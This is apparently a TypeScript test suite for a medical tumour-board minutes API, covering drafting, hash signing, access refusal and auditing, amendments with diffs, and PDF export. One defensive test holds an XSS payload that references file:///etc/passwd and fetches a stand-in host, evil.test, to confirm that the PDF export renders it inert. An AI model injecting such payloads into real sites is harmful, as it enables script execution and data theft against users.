import { MinutesDiffSchema, MinutesResponseSchema, MinutesVersionListSchema } from '@konsil/shared';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { signIn } from '../../../test/api';
import {
  addParagraph,
  NOTES_WAIT_MS,
  openSyncedNotes,
  paragraphsOf,
  storedContent,
} from '../../../test/collabClient';
import { describeEachDatabase } from '../../../test/databases';
import { buildBoard } from '../../../test/factories';
import {
  COORDINATOR_SEOUL,
  GERMAN_NOTE,
  KOREAN_NOTE,
  lobectomy,
  OBSERVER_BERLIN,
  ONCOLOGIST_BERLIN,
  ONCOLOGIST_SEOUL,
  ONCOLOGIST_VIENNA,
  runBoardToEnd,
} from '../../../test/minutesBoard';
import { syncRoundTrip } from '../../../test/notesBarrier';
import { pdfText } from '../../../test/pdfText';
import { auditRows, userIdOf } from '../../../test/queries';
import { expectError, expectSameAsMissing, expectValidationFailed } from '../../../test/refusals';
import type { TestClient } from '../../../test/testClient';
import { startTestServer, type TestServer } from '../../../test/testServer';

const minutesOf = (response: { body: unknown }) => MinutesResponseSchema.parse(response.body);
/** A board id no board has: what "not there" answers. */
const MISSING_BOARD = '5b0e0f5e-8a8c-4c8e-9b7e-3f3c2d1e0a99';
/** How a test waits for what another connection sees: polled, with its limit stated. */
const SEEN_WITHIN = { timeout: NOTES_WAIT_MS, interval: 20 };

describeEachDatabase('board minutes API', (dialect) => {
  let server: TestServer;
  let ended: Awaited<ReturnType<typeof runBoardToEnd>>;
  let coordinator: TestClient;

  beforeEach(async () => {
    server = await startTestServer({ dialect });
    ended = await runBoardToEnd(server);
    coordinator = ended.chair.browser;
  });

  afterEach(async () => {
    ended.chair.close();
    await server.close();
  });

  const path = (tail = '') => `/api/boards/${ended.board.id}/minutes${tail}`;
  const sign = async (client = coordinator) => {
    const draft = minutesOf(await client.get(path()));
    return client.post(path('/sign'), { draftHash: draft.minutes.draftHash });
  };

  it('has a draft the moment the board ends: attendance, consented cases, notes, decisions', async () => {
    const seoul = await signIn(server, ONCOLOGIST_SEOUL);
    const { minutes, permissions } = minutesOf(await seoul.get(path()));
    expect(minutes).toMatchObject({ state: 'draft', version: 1, signature: null });
    expect(permissions).toEqual({ canSign: false, canAmend: false });
    const { content } = minutes;
    expect(content.board.endedAt).not.toBeNull();
    expect(content.board.institutions.map((entry) => [entry.code, entry.timeZone])).toEqual([
      ['CCCC', 'Europe/Berlin'],
      ['SCCC', 'Asia/Seoul'],
    ]);
    expect(
      content.attendance.map((entry) => [entry.institutionCode, entry.timeZone, entry.intervals]),
    ).toEqual([
      [
        'CCCC',
        'Europe/Berlin',
        [{ from: '2026-12-03T07:00:00.000Z', to: '2026-12-03T07:45:00.000Z' }],
      ],
      [
        'SCCC',
        'Asia/Seoul',
        [{ from: '2026-12-03T07:00:00.000Z', to: '2026-12-03T07:45:00.000Z' }],
      ],
    ]);

    expect(content.cases.map((item) => item.pseudonym)).toEqual([
      ended.berlinCase.pseudonym,
      ended.seoulCase.pseudonym,
    ]);
    const [berlin, seoulCase] = content.cases;
    expect(berlin).toMatchObject({
      notes: `Befund\n${GERMAN_NOTE}`,
      recommendation: lobectomy,
      recommendationVersion: 1,
      tally: { agree: 2, disagree: 1, abstain: 0 },
      status: 'decided',
      history: [expect.objectContaining({ kind: 'closed', outcome: 'decided' })],
    });
    expect(berlin?.positions.map((entry) => entry.recommendationVersion)).toEqual([1, 1, 1]);
    expect(berlin?.positions.find((entry) => entry.position === 'disagree')?.note).toBe(
      'Neoadjuvante Chemoimmuntherapie erwägen',
    );
    expect(seoulCase).toMatchObject({
      notes: `• ${KOREAN_NOTE}`,
      status: 'deferred',
      statusReason: 'PET-CT 결과 대기',
    });
    // Neither the unconsented case nor any home-institution reference is in it.
    const json = JSON.stringify(minutes);
    expect(json).not.toContain(ended.hiddenCase.pseudonym);
    expect(json).not.toContain(ended.berlinCase.homeReference as string);
  });

  it('signs the reviewed draft with a SHA-256 hash; then notes and decisions are frozen', async () => {
    const writer = await openSyncedNotes(
      await signIn(server, ONCOLOGIST_BERLIN),
      ended.berlinCase.id,
    );
    const reader = await openSyncedNotes(
      await signIn(server, ONCOLOGIST_SEOUL),
      ended.berlinCase.id,
    );
    writer.awareness.setLocalStateField('cursor', { anchor: 1, head: 1 });
    const writerIsReadOnly = () =>
      (reader.stateOf(writer)?.user as { readOnly?: boolean } | undefined)?.readOnly;
    await vi.waitFor(() => expect(writerIsReadOnly()).toBe(false), SEEN_WITHIN);

    const signed = await sign();
    expect(signed.status).toBe(201);
    const { minutes } = minutesOf(signed);
    expect(minutes.state).toBe('signed');
    expect(minutes.signature?.contentHash).toMatch(/^[0-9a-f]{64}$/);
    expect(minutes.signature?.signedBy).toMatchObject({ institutionCode: 'CCCC' });

    const casePath = (tail: string) =>
      `/api/boards/${ended.board.id}/cases/${ended.berlinCase.id}/${tail}`;
    expectError(
      await coordinator.put(casePath('recommendation'), { version: 1, content: lobectomy }),
      409,
      'minutes_signed',
    );
    expectError(
      await coordinator.post(casePath('close'), { outcome: 'deferred', reason: 'x' }),
      409,
      'minutes_signed',
    );
    expectError(
      await coordinator.put(path('/summary'), { summary: 'zu spät' }),
      409,
      'minutes_signed',
    );

    // The open editor turns read-only for everyone to see; what it types now reaches nobody and no storage.
    await vi.waitFor(() => expect(writerIsReadOnly()).toBe(true), SEEN_WITHIN);
    const stored = await storedContent(server.db, ended.berlinCase.id);
    addParagraph(writer.doc, 'nachträglich geändert');
    // Ordering barrier: the server handles one connection's messages in order, so once the reader
    // sees the caret the writer moved after typing, the typing was handled (dropped or applied).
    writer.awareness.setLocalStateField('cursor', { anchor: 2, head: 2 });
    await vi.waitFor(
      () => expect(reader.stateOf(writer)?.cursor).toEqual({ anchor: 2, head: 2 }),
      SEEN_WITHIN,
    );
    // Then a sync round trip: had the server applied the typing, its reply would carry it, and
    // it would be stored by then; a latecomer's first sync would carry it too.
    await syncRoundTrip(reader);
    const latecomer = await openSyncedNotes(
      await signIn(server, COORDINATOR_SEOUL),
      ended.berlinCase.id,
    );
    expect(paragraphsOf(writer.doc)).toContain('nachträglich geändert');
    expect(paragraphsOf(reader.doc)).not.toContain('nachträglich geändert');
    expect(paragraphsOf(latecomer.doc)).not.toContain('nachträglich geändert');
    expect(await storedContent(server.db, ended.berlinCase.id)).toBe(stored);
    for (const client of [writer, reader, latecomer]) client.destroy();
    expect(await auditRows(server.db, { action: 'minutes.signed' })).toHaveLength(1);
  });

  it('refuses to sign a draft that changed since it was reviewed, and a second signature', async () => {
    const draft = minutesOf(await coordinator.get(path()));
    await coordinator.put(path('/summary'), { summary: 'Zwei Fälle besprochen.' });
    expectError(
      await coordinator.post(path('/sign'), { draftHash: draft.minutes.draftHash }),
      409,
      'conflict',
      { message: expect.any(String) },
    );
    expect((await sign()).status).toBe(201);
    expectError(await sign(), 409, 'minutes_signed');
    const { minutes } = minutesOf(await coordinator.get(path()));
    expect(minutes.content.summary).toBe('Zwei Fälle besprochen.');
  });

  it('lets only coordinators of the board sign; others are refused and audited', async () => {
    for (const email of [ONCOLOGIST_BERLIN, OBSERVER_BERLIN]) {
      expectError(await sign(await signIn(server, email)), 403, 'forbidden', {}, email);
    }
    const vienna = await signIn(server, ONCOLOGIST_VIENNA);
    const hiddenMinutes = await vienna.get(path());
    const hiddenPdf = await vienna.get(path('.pdf'));
    const refused = await auditRows(server.db, { action: 'access.refused' });
    expect(refused.map((row) => [row.actor_user_id, row.object_id])).toEqual([
      [await userIdOf(server.db, ONCOLOGIST_BERLIN), ended.board.id],
      [await userIdOf(server.db, OBSERVER_BERLIN), ended.board.id],
      [await userIdOf(server.db, ONCOLOGIST_VIENNA), ended.board.id],
      [await userIdOf(server.db, ONCOLOGIST_VIENNA), ended.board.id],
    ]);
    expectSameAsMissing(hiddenMinutes, await vienna.get(`/api/boards/${MISSING_BOARD}/minutes`));
    expectSameAsMissing(hiddenPdf, await vienna.get(`/api/boards/${MISSING_BOARD}/minutes.pdf`));
  });

  it('keeps summary, amendments and every version to those allowed, and changes nothing when refused', async () => {
    const oncologist = await signIn(server, ONCOLOGIST_BERLIN);
    expectError(
      await oncologist.put(path('/summary'), { summary: 'nicht meins' }),
      403,
      'forbidden',
    );
    const first = minutesOf(await sign()).minutes;
    const amendment = {
      basedOnVersion: 1,
      reason: 'Korrektur',
      summary: 'geändert',
      cases: [],
    };
    expectError(await oncologist.post(path('/amendments'), amendment), 403, 'forbidden');
    const vienna = await signIn(server, ONCOLOGIST_VIENNA);
    const missingPath = (tail: string) => `/api/boards/${MISSING_BOARD}/minutes${tail}`;
    for (const tail of ['/versions', '/versions/1', '/diff?from=1&to=1']) {
      expectSameAsMissing(await vienna.get(path(tail)), await vienna.get(missingPath(tail)), tail);
    }
    expectSameAsMissing(
      await vienna.post(path('/amendments'), amendment),
      await vienna.post(missingPath('/amendments'), amendment),
      'amendment',
    );
    const versions = MinutesVersionListSchema.parse(
      (await coordinator.get(path('/versions'))).body,
    );
    expect(versions.versions.map((entry) => entry.signature.contentHash)).toEqual([
      first.signature?.contentHash,
    ]);
    expect(minutesOf(await coordinator.get(path())).minutes.content.summary).toBe('');
  });

  it('has no minutes while a board has not ended', async () => {
    const scheduled = await buildBoard(server.db, {
      host: 'CCCC',
      guests: ['SCCC'],
      invited: [ONCOLOGIST_BERLIN],
    });
    const response = await coordinator.get(`/api/boards/${scheduled.id}/minutes`);
    expectError(response, 404, 'minutes_not_available');
    expectError(
      await coordinator.get(`/api/boards/${scheduled.id}/minutes.pdf`),
      404,
      'minutes_not_available',
    );
  });

  it('amends into version 2 with a reason, lists both versions and shows the difference', async () => {
    const first = minutesOf(await sign()).minutes;
    const seoulCoordinator = await signIn(server, COORDINATOR_SEOUL);
    const berlin = first.content.cases[0];
    const amended = await seoulCoordinator.post(path('/amendments'), {
      basedOnVersion: 1,
      reason: 'Dauer der adjuvanten Therapie korrigiert',
      summary: '',
      cases: [
        {
          caseId: berlin?.caseId,
          notes: berlin?.notes,
          decisionText: 'Lobektomie mit Lymphadenektomie, danach adjuvant Osimertinib für 2 Jahre.',
        },
      ],
    });
    expect(amended.status).toBe(201);
    const second = minutesOf(amended).minutes;
    expect(second).toMatchObject({
      version: 2,
      amendmentReason: 'Dauer der adjuvanten Therapie korrigiert',
    });
    expect(second.signature?.contentHash).not.toBe(first.signature?.contentHash);

    const versions = MinutesVersionListSchema.parse(
      (await coordinator.get(path('/versions'))).body,
    );
    expect(versions.versions.map((entry) => entry.version)).toEqual([1, 2]);
    const diff = MinutesDiffSchema.parse((await coordinator.get(path('/diff?from=1&to=2'))).body);
    expect(diff.changes).toEqual([
      {
        field: 'decisionText',
        caseId: berlin?.caseId,
        pseudonym: berlin?.pseudonym,
        parts: [
          {
            kind: 'same',
            text: 'Lobektomie mit Lymphadenektomie, danach adjuvant Osimertinib für ',
          },
          { kind: 'removed', text: '3' },
          { kind: 'added', text: '2' },
          { kind: 'same', text: ' Jahre.' },
        ],
      },
    ]);
    // Version 1 is still there, unchanged.
    const v1 = minutesOf(await coordinator.get(path('/versions/1'))).minutes;
    expect(v1.signature?.contentHash).toBe(first.signature?.contentHash);
    // A stale amendment and one without a reason are refused.
    const stale = await seoulCoordinator.post(path('/amendments'), {
      basedOnVersion: 1,
      reason: 'nochmal',
      summary: 'x',
      cases: [],
    });
    expectError(stale, 409, 'conflict');
    const noReason = await seoulCoordinator.post(path('/amendments'), {
      basedOnVersion: 2,
      reason: '',
      summary: 'x',
      cases: [],
    });
    expectValidationFailed(noReason, ['reason']);
  });

  it('exports the signed minutes as a PDF with German and Korean text and no home reference', async () => {
    expectError(await coordinator.get(path('.pdf')), 404, 'minutes_not_available');
    const signed = minutesOf(await sign()).minutes;
    const response = await (await signIn(server, ONCOLOGIST_SEOUL)).getBytes(path('.pdf'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    const text = await pdfText(response.bytes);
    expect(text).toContain(ended.berlinCase.pseudonym);
    expect(text).toContain(ended.seoulCase.pseudonym);
    expect(text).toContain('Lungenfunktion grenzwertig');
    expect(text).toContain('폐암은 좌상엽에');
    expect(text).toContain(signed.signature?.contentHash);
    expect(text).not.toContain(ended.berlinCase.homeReference as string);
    expect(text).not.toContain(ended.hiddenCase.pseudonym);
    expect(await auditRows(server.db, { action: 'minutes.exported' })).toHaveLength(1);
  });
});

describeEachDatabase('board minutes with hostile text', (dialect) => {
  let server: TestServer;
  afterEach(async () => {
    await server.close();
  });

  it('keeps script and markup in notes and fields as plain text in the PDF', async () => {
    server = await startTestServer({ dialect });
    const payload =
      '<img src="file:///etc/passwd" onerror="fetch(\'https://evil.test\')"><script>alert(1)</script>';
    const ended = await runBoardToEnd(server, { xss: payload });
    const draft = MinutesResponseSchema.parse(
      (await ended.chair.browser.get(`/api/boards/${ended.board.id}/minutes`)).body,
    );
    await ended.chair.browser.post(`/api/boards/${ended.board.id}/minutes/sign`, {
      draftHash: draft.minutes.draftHash,
    });
    const pdf = await ended.chair.browser.getBytes(`/api/boards/${ended.board.id}/minutes.pdf`);
    const text = (await pdfText(pdf.bytes)).replace(/\s+/g, '');
    expect(text).toContain(payload.replace(/\s+/g, ''));
    // Nothing in the file points outside it: no URI actions or links were made of the text.
    const raw = Buffer.from(pdf.bytes).toString('latin1');
    expect(raw).not.toMatch(/\/URI|\/Launch|\/JavaScript/);
    ended.chair.close();
  });
});
